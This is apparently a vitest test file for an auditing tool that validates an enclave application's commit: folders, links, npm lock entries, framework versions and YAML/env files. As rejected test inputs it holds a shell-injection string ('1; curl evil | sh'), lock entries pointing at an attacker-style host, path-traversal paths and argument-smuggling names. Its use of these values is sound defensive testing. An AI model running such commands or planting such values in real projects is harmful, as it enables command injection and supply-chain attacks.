/**
 * The parts of a commit that an audit uses or refuses. It uses the application but never the framework, and
 * takes packages only by their digests.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { BOUNDS, type Bounds } from '../../../../src/toolchain/audit/apart.ts';
import { checkVersion, programLine, readSource } from '../../../../src/toolchain/audit/source.ts';
import { readSourceApart } from '../../../../src/toolchain/audit/source_process.ts';
import type { Omitted } from '../../../../src/toolchain/audit/tree.ts';
import { created, FRAMEWORK, framework, type Packages, ROOT } from './applications.ts';
import type { Files } from './git_server.ts';

function writeFolder(files: Files): string {
  const folder = mkdtempSync(join(tmpdir(), 'audit-source-'));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content as string | Buffer);
  }
  return folder;
}

function read(files: Files, { folder = '', omitted = [] as Omitted[], own: ownFramework = FRAMEWORK } = {}) {
  return readSource({ folder: writeFolder(files), files: 0, bytes: 0, omitted }, folder, ownFramework);
}

function catchCode(action: () => unknown): string {
  try {
    action();
    return 'done';
  } catch (error) {
    return (error as { code: string }).code;
  }
}

const withLock = (change: (packages: Packages) => void) => created('price', change);

describe('an application in a repository of its own', () => {
  test('provides its files, its settings and its packages; everything else comes from the auditor', () => {
    const source = read(created());
    expect(source).toMatchObject({
      name: 'price',
      appDir: 'src/apps/price',
      isApart: true,
      framework: FRAMEWORK.folder,
      environment: { APP: 'price', NSM_REQUIRED: 'true' },
      manifest: { endpoints: ['api.feed.example'] },
    });
    expect([...source.movePackages.keys()]).toEqual(['price']);
    // Packages of the framework at the same place come from the framework.
    expect([...source.inputs.packages.keys()].filter((path) => path.startsWith('src/'))).toEqual([]);
  });

  test('may be in a folder of its repository', () => {
    const files = Object.fromEntries(
      Object.entries(created()).map(([path, file]) => [`apps/a/${path}`, file]),
    );
    expect(read(files, { folder: 'apps/a' }).name).toBe('price');
    for (const folder of [
      '',
      '..',
      '/etc',
      'apps/../apps/a',
      'apps/a/',
      './apps/a',
      'apps/b',
      '-x',
      'a\u001b',
    ]) {
      expect(
        catchCode(() => read(files, { folder })),
        folder,
      ).toBe('SOURCE_INVALID');
    }
  });

  test('has no link or submodule among the sources of an image or a contract', () => {
    const at = (path: string): Omitted[] => [{ path, kind: 'a link' }];
    for (const path of ['lib', 'lib/passwd', 'server.env', 'move/price/sources/a.move']) {
      expect(
        catchCode(() => read(created(), { omitted: at(path) })),
        path,
      ).toBe('SOURCE_UNSAFE');
    }
    for (const path of ['test/fixture', '.github/a', 'node_modules']) {
      expect(
        catchCode(() => read(created(), { omitted: at(path) })),
        path,
      ).toBe('done');
    }
  });

  test('is of the version of the framework that this program has', () => {
    const source = { url: '', commit: '', folder: '', measurementsSha256: '' };
    checkVersion({ ...source, frameworkVersion: FRAMEWORK.version }, FRAMEWORK);
    const message = (frameworkVersion: string) => {
      try {
        checkVersion({ ...source, frameworkVersion }, FRAMEWORK);
        return '';
      } catch (error) {
        return `${(error as { code: string }).code}: ${(error as Error).message}`;
      }
    };
    expect(message('9.8.7-experimental.abc')).toMatch(
      /^FRAMEWORK_VERSION: .* npm exec --package=<folder>\/sui-enclave-cli-9\.8\.7-experimental\.abc\.tgz --package/,
    );
    // The page begins with this text.
    const page = readFileSync(join(ROOT, 'src/toolchain/audit/README.md'), 'utf8');
    const [, code] = /```sh\n([\s\S]*?)\n```/.exec(page) ?? [];
    expect(code?.startsWith(`${programLine('<version>')} <config id> `)).toBe(true);
    expect(message('9.8.7')).toContain(programLine('9.8.7'));
    // The message does not repeat a text as a command that a shell would run.
    const hostile = message('1; curl evil | sh\u001b');
    expect([hostile.includes('npm exec'), hostile.includes('\u001b')]).toEqual([false, false]);
  });

  const foreign = { version: FRAMEWORK.version, integrity: `sha512-${'Z'.repeat(86)}==` };
  test.each<[string, Packages]>([
    ['another digest', { 'node_modules/sui-enclave-server': foreign }],
    ['a second one below a package', { 'node_modules/valibot/node_modules/sui-enclave-server': foreign }],
    ['another library', { 'node_modules/sui-enclave': foreign }],
  ])('has the framework that this program knows, not %s', (_name, change) => {
    expect(catchCode(() => read(withLock((packages) => void Object.assign(packages, change))))).toBe(
      'FRAMEWORK_UNKNOWN',
    );
  });

  test('must have a framework', () => {
    const without = withLock((packages) => void delete packages['node_modules/sui-enclave-server']);
    expect(catchCode(() => read(without))).toBe('FRAMEWORK_UNKNOWN');
  });

  test('is audited with the installed program, since a clone knows no package of the framework', () => {
    expect(catchCode(() => read(created(), { own: { ...FRAMEWORK, packages: {} } }))).toBe(
      'FRAMEWORK_UNKNOWN',
    );
  });

  const sha = `sha512-${'A'.repeat(86)}==`;
  const lockEntry = { version: '1.0.0', integrity: sha };
  test.each<[string, string, object]>([
    ['of git', 'node_modules/a', { ...lockEntry, resolved: 'git+ssh://git@code.example/a.git#abc' }],
    ['of an address', 'node_modules/a', { ...lockEntry, resolved: 'https://evil.example/a.tgz' }],
    ['of http', 'node_modules/a', { ...lockEntry, resolved: 'http://registry.example/a/-/a-1.0.0.tgz' }],
    [
      'of another package',
      'node_modules/a',
      { ...lockEntry, resolved: 'https://registry.example/b/-/b-1.0.0.tgz' },
    ],
    [
      'of a malformed address',
      'node_modules/a',
      { ...lockEntry, resolved: 'https://registry.example/%zz/a.tgz' },
    ],
    ['of a file', 'node_modules/a', { ...lockEntry, resolved: 'file:../a.tgz' }],
    ['that is a link', 'node_modules/a', { link: true, resolved: '../..' }],
    ['that is a link to the framework', 'node_modules/sui-enclave-server', { link: true, resolved: 'fork' }],
    ['under another name', 'node_modules/a', { ...lockEntry, name: 'b' }],
    ['in another package', 'node_modules/a', { ...lockEntry, inBundle: true }],
    ['with others in it', 'node_modules/a', { ...lockEntry, bundleDependencies: ['b'] }],
    ['without a digest', 'node_modules/a', { version: '1.0.0' }],
    ['with SHA-1', 'node_modules/a', { version: '1.0.0', integrity: 'sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=' }],
    ['with a choice of digests', 'node_modules/a', { ...lockEntry, integrity: `${sha} sha1-AAAA` }],
    [
      'with an address for a version',
      'node_modules/a',
      { ...lockEntry, version: 'https://evil.example/a.tgz' },
    ],
    ['with a range', 'node_modules/a', { ...lockEntry, version: '^1.0.0' }],
    ['with an option for a version', 'node_modules/a', { ...lockEntry, version: '--script-shell=sh' }],
    ['out of the folder', 'node_modules/../../../etc', lockEntry],
    ['out of the folder, further down', 'node_modules/a/node_modules/..', lockEntry],
    ['at an absolute path', '/etc', lockEntry],
    ['with an option for a name', 'node_modules/--globalconfig', lockEntry],
    ['of a workspace', 'packages/a', { version: '1.0.0' }],
    ['with a control character', 'node_modules/a\u001b', lockEntry],
    ['with a name of every object', 'constructor', lockEntry],
  ])('has no package %s, whether it is used or not', (_name, path, entry) => {
    const files = withLock((packages) => {
      packages[path] = { ...entry };
    });
    expect(catchCode(() => read(files))).toBe('LOCK_UNTRUSTED');
  });

  test('may have the framework at an address of no host, as create-sui-enclave --from writes it', () => {
    const files = withLock((packages) => {
      const { version } = FRAMEWORK;
      for (const name of ['sui-enclave', 'sui-enclave-server', 'sui-enclave-cli']) {
        const resolved = `https://packages.invalid/${name}/-/${name}-${version}.tgz`;
        Object.assign(packages[`node_modules/${name}`] ?? {}, { resolved });
      }
    });
    expect(read({ ...files, 'packages/sui-enclave.tgz': 'not read' }).name).toBe('price');
  });

  test('may name the registry, which is not asked, and may have packages of its own', () => {
    const files = withLock((packages) => {
      packages['node_modules/@a/b'] = {
        ...lockEntry,
        resolved: 'https://registry.example/@a/b/-/b-1.0.0.tgz',
      };
      packages['node_modules/constructor'] = lockEntry;
      Object.assign(packages['']?.['dependencies'] ?? {}, { '@a/b': '1.0.0', constructor: '1.0.0' });
    });
    const { inputs } = read(files);
    expect(inputs.packages.has('src/apps/price/node_modules/constructor')).toBe(true);
    expect(inputs.packages.get('src/apps/price/node_modules/@a/b')).toMatchObject({
      name: '@a/b',
      version: '1.0.0',
    });
  });

  test.each([
    '{',
    '[]',
    '{"lockfileVersion": 1, "dependencies": {}}',
    '{"lockfileVersion": 3, "packages": {"": 1}}',
  ])('has a lock file of npm: %s', (text) =>
    expect(catchCode(() => read({ ...created(), 'package-lock.json': text }))).toBe('LOCK_UNTRUSTED'),
  );

  test('does not build with an invalid app.yaml, server.env or package.json', () => {
    for (const [path, text] of [
      ['app.yaml', 'name: price\nendpoints: ['],
      ['app.yaml', 'endpoints: []\nsecrets: []'],
      ['server.env', 'NOT A SETTING'],
      ['app.yaml', `${created()['app.yaml']}# ${'x'.repeat(65_536)}`],
      ['app.yaml', Array.from({ length: 50_000 }, (_, at) => `a${at}: 1`).join('\n')],
      ['server.env', `A=${'x'.repeat(1_000_000)}`],
    ] as const) {
      expect(
        catchCode(() => read({ ...created(), [path]: text })),
        text,
      ).toBe('SOURCE_INVALID');
    }
  });
});

test('an application has the folders that its app.yaml names in the commit', () => {
  const yaml = `${created()['app.yaml']}files: [public]\n`;
  const files = { ...created(), 'app.yaml': yaml, 'public/index.html': '<p>' };
  expect(read(files).manifest.files).toEqual(['public']);
  expect(catchCode(() => read({ ...created(), 'app.yaml': yaml }))).toBe('SOURCE_INVALID');
  expect(catchCode(() => read({ ...files, 'public/.env': '' }))).toBe('SOURCE_INVALID');
  const omitted: Omitted[] = [{ path: 'public/passwd', kind: 'a link' }];
  expect(catchCode(() => read(files, { omitted }))).toBe('SOURCE_UNSAFE');
});

describe('the process that reads a commit', () => {
  const readApart = async (files: Files, bounds?: Bounds) => {
    const tree = { folder: writeFolder(files), files: 0, bytes: 0, omitted: [] };
    return await readSourceApart(tree, '', FRAMEWORK, bounds);
  };
  const codeOfReading = async (files: Files, bounds?: Bounds) =>
    await readApart(files, bounds).then(
      () => 'done',
      ({ code, message }: { code?: string; message: string }) => code ?? message,
    );

  test('returns the same as a read in this process', async () => {
    const files = created();
    const tree = { folder: writeFolder(files), files: 0, bytes: 0, omitted: [] };
    expect(await readSourceApart(tree, '', FRAMEWORK)).toEqual(readSource(tree, '', FRAMEWORK));
    expect(await codeOfReading({ ...files, 'app.yaml': 'name: price' })).toBe('SOURCE_INVALID');
  });

  test('ends when YAML takes too long', async () => {
    const names = Array.from({ length: 20_000 }, (_, at) => at.toString(36)).join(',');
    const files = { ...created(), 'app.yaml': `{${names.slice(0, 65_000)}}` };
    expect(await codeOfReading(files, { ...BOUNDS, ms: 500 })).toBe('SOURCE_TOO_LARGE');
  });

  test.each([
    ['app.yaml', '['.repeat(60_000), 'SOURCE_INVALID'],
    ['app.yaml', `secrets: ${'{a: '.repeat(10_000)}`, 'SOURCE_INVALID'],
    ['package-lock.json', '['.repeat(3_000_000), 'LOCK_UNTRUSTED'],
    ['package-lock.json', nested(1_000_000), 'SOURCE_TOO_LARGE'],
  ])('refuses deep nesting with a code: %s', async (path, text, code) => {
    expect(await codeOfReading({ ...created(), [path]: text })).toBe(code);
  });
});

/** Returns a lock file whose root has nested values. */
function nested(depth: number): string {
  const lock = JSON.parse(String(created()['package-lock.json']));
  lock.packages[''].bundleDependencies = 0;
  const deep = `${'[['.repeat(depth)}${']]'.repeat(depth)}`;
  return JSON.stringify(lock).replace('"bundleDependencies":0', `"bundleDependencies":${deep}`);
}

describe('an application in a clone of the framework', () => {
  const at = { folder: 'src/apps/weather' };

  test('is built with the auditor’s framework, of which the commit has every byte', () => {
    const source = read(framework(), at);
    expect(source).toMatchObject({
      name: 'weather',
      isApart: false,
      appDir: 'src/apps/weather',
      framework: FRAMEWORK.folder,
    });
    expect(source.inputs.needed.workspaces).toContain('src/apps/weather');
    expect(source.inputs.packages.get('node_modules/axios')?.version).toBe(
      JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).dependencies.axios,
    );
    expect([...source.movePackages.keys()]).toContain('weather');
  });

  test.each([
    ['src/server/keys/key.ts', (text: string) => `${text}\n`],
    ['enclave/kernel.cmdline', (text: string) => text.replace('reboot', 'Reboot')],
    ['Containerfile', (text: string) => `${text}# more\n`],
    [
      'package-lock.json',
      (text: string) =>
        text.replace(/("node_modules\/express": \{[^}]*?sha512-)./, '$1_').replace('sha512-_', 'sha512-Z'),
    ],
  ])('is refused if the state of its framework is not that of this program: %s', (path, change) => {
    const before = String(framework()[path]);
    expect(change(before)).not.toBe(before);
    const files = { ...framework(), [path]: change(before) };
    expect(catchCode(() => read(files, at))).toBe('FRAMEWORK_VERSION');
  });

  test('is refused if its framework has one file more or less', () => {
    expect(catchCode(() => read({ ...framework(), 'src/service/more.ts': '' }, at))).toBe(
      'FRAMEWORK_VERSION',
    );
    const { 'src/library/errors.ts': _gone, ...otherFiles } = framework();
    expect(catchCode(() => read(otherFiles, at))).toBe('FRAMEWORK_VERSION');
  });

  test('has links to the packages of the clone alone', () => {
    const lock = JSON.parse(String(framework()['package-lock.json']));
    lock.packages['node_modules/axios'] = { link: true, resolved: 'src/apps/weather' };
    const files = { ...framework(), 'package-lock.json': JSON.stringify(lock) };
    expect(catchCode(() => read(files, at))).toBe('LOCK_UNTRUSTED');
  });

  test('is in src/apps: in another folder, it would replace a tool of the build', () => {
    const app = Object.entries(framework()).filter(([path]) => path.startsWith('src/apps/weather/'));
    for (const folder of ['node_modules/rolldown', 'src/toolchain', 'src', 'src/apps/weather/x', 'build']) {
      const moved = app.map(([path, file]) => [path.replace('src/apps/weather', folder), file]);
      const files = { ...framework(), ...Object.fromEntries(moved) };
      expect(
        catchCode(() => read(files, { folder })),
        folder,
      ).toBe('SOURCE_INVALID');
    }
  });

  test.each([
    'src/server/node_modules/express',
    'src/library/node_modules/@noble/curves',
    'node_modules/express/node_modules/qs',
  ])('can not put a package where the framework would import it first: %s', (path) => {
    const lock = JSON.parse(String(framework()['package-lock.json']));
    lock.packages[path] = { version: '1.0.0', integrity: `sha512-${'Z'.repeat(86)}==` };
    const files = { ...framework(), 'package-lock.json': JSON.stringify(lock) };
    expect(catchCode(() => read(files, at))).toBe('FRAMEWORK_VERSION');
  });

  test('may have packages of its own', () => {
    const lock = JSON.parse(String(framework()['package-lock.json']));
    const lockEntry = { version: '1.0.0', integrity: `sha512-${'Z'.repeat(86)}==` };
    lock.packages['src/apps/weather'].dependencies['a'] = '1.0.0';
    for (const path of ['node_modules/a', 'src/apps/weather/node_modules/axios'])
      lock.packages[path] = lockEntry;
    const { inputs } = read({ ...framework(), 'package-lock.json': JSON.stringify(lock) }, at);
    expect([...inputs.packages.keys()]).toEqual(
      expect.arrayContaining(['node_modules/a', 'src/apps/weather/node_modules/axios']),
    );
  });

  test('elsewhere needs a lock file', () => {
    const { 'package-lock.json': _lock, ...otherFiles } = created();
    expect(catchCode(() => read(otherFiles))).toBe('SOURCE_INVALID');
  });
});
